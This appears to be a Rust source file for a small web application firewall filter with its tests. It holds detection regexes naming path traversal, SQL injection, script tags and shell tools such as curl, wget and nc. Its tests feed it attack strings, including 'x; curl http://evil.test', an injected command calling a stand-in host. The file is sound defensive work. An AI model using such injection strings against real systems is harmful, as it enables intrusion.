//! `waf`: refuses requests that look like attacks. A stub: real rule sets have thousands of rules.

use extproc::{LocalReply, Open, Processor, Request, RequestHead, Skip, Start, Stop, Whole, WholeIo};
use percent_encoding::percent_decode;
use regex::bytes::RegexSet;

use super::BODY_LIMIT;
use super::settings::{Key, Settings, key};
use crate::failure::Outcome;

/// Rules that are always there.
const RULES: [(&str, &str); 4] = [
    ("traversal", r"(^|[/\\=])\.\.([/\\]|$)|/etc/passwd"),
    ("sql", r"(?i)\bunion\s+(all\s+)?select\b|['\x22]\s*or\s+['\x22\d].*=|;\s*drop\s+table\b"),
    ("script", r"(?i)<script\b|javascript:|\bonerror\s*="),
    ("shell", r"[;|`]\s*(cat|curl|wget|nc|bash|sh)\s|\$\((\w|\s)+\)"),
];

/// Matches target, header values and body, decoded once, against its rules. The regular expressions take time linear
/// in what they search.
#[derive(Debug)]
pub(crate) struct Waf {
    names: Vec<String>,
    rules: RegexSet,
    report_only: bool,
}

impl Waf {
    pub(super) const KEYS: &[Key] = &[
        key("rule", "NAME=REGEX, repeatable", "one more rule"),
        key("report-only", "true [default: false]", "log what matches, and let it pass"),
    ];

    pub(super) fn new(settings: &Settings) -> Outcome<Self> {
        let mut rules: Vec<(&str, &str)> = RULES.to_vec();
        for rule in settings.all("rule") {
            rules.push(rule.split_once('=').ok_or_else(|| settings.wrong("rule", "must be NAME=REGEX"))?);
        }
        Ok(Self {
            names: rules.iter().map(|(name, _)| (*name).to_owned()).collect(),
            rules: RegexSet::new(rules.iter().map(|(_, regex)| regex))
                .map_err(|error| settings.wrong("rule", error))?,
            report_only: settings.get("report-only")?.unwrap_or(false),
        })
    }

    /// The first rule that matches, as it is or decoded, ends the exchange.
    fn check(&self, place: &str, text: &[u8]) -> Result<(), Stop> {
        let plus: Vec<u8> = text.iter().map(|b| if *b == b'+' { b' ' } else { *b }).collect();
        let decoded: Vec<u8> = percent_decode(&plus).collect();
        let matched = self.rules.matches(text).iter().chain(self.rules.matches(&decoded).iter()).next();
        let Some(rule) = matched.and_then(|index| self.names.get(index)) else { return Ok(()) };
        tracing::info!(rule, place, report_only = self.report_only, "a request matches a rule");
        if self.report_only { Ok(()) } else { Err(LocalReply::forbidden().details(format!("waf_{rule}")).into()) }
    }
}

impl Processor for Waf {
    type Ctx = ();
    type RequestBody = Whole<BODY_LIMIT>;
    type ResponseBody = Skip;

    fn open(&self, _: &Open) {}

    async fn request_headers(&self, _: &mut (), req: &mut Start<RequestHead>) -> Result<(), Stop> {
        self.check("target", req.path().as_bytes())?;
        for (name, value) in req.headers().iter().filter(|(name, _)| !name.is_pseudo()) {
            self.check(name.as_str(), value.as_bytes())?;
        }
        Ok(())
    }

    /// Nothing of the request has reached the upstream: the data plane holds it in every mode that gives whole bodies,
    /// but in STREAMED the head is gone. Use BUFFERED.
    async fn request_body(&self, _: &mut (), io: &mut WholeIo<Request>) -> Result<(), Stop> {
        self.check("body", io.body.bytes())
    }
}

#[cfg(test)]
mod tests {
    use extproc::BodyMode;
    use extproc::testing::Script;

    use super::*;

    async fn last(settings: &[&str], path: &str, header: &str, body: &'static str) -> String {
        let script = Script::new()
            .modes(BodyMode::Buffered, BodyMode::None)
            .request_headers([(":path", path), ("x-any", header)])
            .request_body(body, true);
        let lines = script.run(Waf::new(&Settings::test(settings)).expect("valid")).await.lines();
        lines.last().expect("an answer").clone()
    }

    #[tokio::test]
    async fn attacks_are_refused_and_others_pass() {
        for (path, header, body, rule) in [
            ("/a?b=c%20d", "text/html; q=0.5", "the union selected ../ no: .. / script", None),
            ("/shop?or=1&drop=tables", "it's or isn't", "{}", None),
            ("/a/../../x", "", "", Some("traversal")),
            ("/a/%2e%2E%2fx", "", "", Some("traversal")),
            ("/?f=../x", "", "", Some("traversal")),
            ("/?q=1+UNION+ALL+SELECT+2", "", "", Some("sql")),
            ("/", "<script>", "", Some("script")),
            ("/", "", "name=x'%20OR%20'1'='1", Some("sql")),
            ("/", "", "x; curl http://evil.test", Some("shell")),
        ] {
            let expected = rule.map(|rule| format!("immediate 403 details=waf_{rule}"));
            let expected = expected.as_deref().unwrap_or("request_body");
            assert_eq!(last(&[], path, header, body).await, expected, "{path} {header} {body}");
        }
    }

    #[tokio::test]
    async fn rules_can_be_added_and_only_reported() {
        assert_eq!(last(&["rule=cow=moo"], "/moo", "", "").await, "immediate 403 details=waf_cow");
        assert_eq!(last(&["rule=cow=moo", "report-only=true"], "/moo", "", "<script>").await, "request_body");
        assert!(Waf::new(&Settings::test(&["rule=x=("])).is_err());
    }
}
